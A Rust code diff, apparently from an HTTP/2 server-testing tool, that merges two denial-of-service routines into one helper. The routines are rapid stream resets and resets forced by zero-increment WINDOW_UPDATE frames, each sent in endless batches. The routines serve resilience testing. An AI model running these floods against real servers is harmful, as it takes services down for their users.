@@ -64,23 +64,17 @@ pub(crate) fn resets_again(attacker: &Attacker) {
 
 /// Requests that are given up as soon as they were sent.
 pub(crate) fn rapid_resets(attacker: &Attacker) {
-    let head = request("GET", "/hold/20000");
-    listening(attacker, |hostile| {
-        loop {
-            let mut many = Vec::new();
-            for _ in 0..100 {
-                let stream = hostile.next_stream();
-                many.extend(frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &head));
-                many.extend(frame(kind::RST_STREAM, flag::NONE, stream, &CANCEL));
-            }
-            hostile.send(&many)?;
-        }
-    });
+    requests_each_followed_by(attacker, kind::RST_STREAM, &CANCEL);
 }
 
 /// Requests that the server has to break off, because a frame for each of them is invalid: its room grows by
 /// nothing.
 pub(crate) fn made_you_reset(attacker: &Attacker) {
+    requests_each_followed_by(attacker, kind::WINDOW_UPDATE, &[0; 4]);
+}
+
+/// Requests whose answers are long in coming, and behind each of them this frame for its stream.
+fn requests_each_followed_by(attacker: &Attacker, kind: u8, payload: &[u8]) {
     let head = request("GET", "/hold/20000");
     listening(attacker, |hostile| {
         loop {
@@ -88,7 +82,7 @@ pub(crate) fn made_you_reset(attacker: &Attacker) {
             for _ in 0..100 {
                 let stream = hostile.next_stream();
                 many.extend(frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &head));
-                many.extend(frame(kind::WINDOW_UPDATE, flag::NONE, stream, &[0; 4]));
+                many.extend(frame(kind, flag::NONE, stream, payload));
             }
             hostile.send(&many)?;
         }
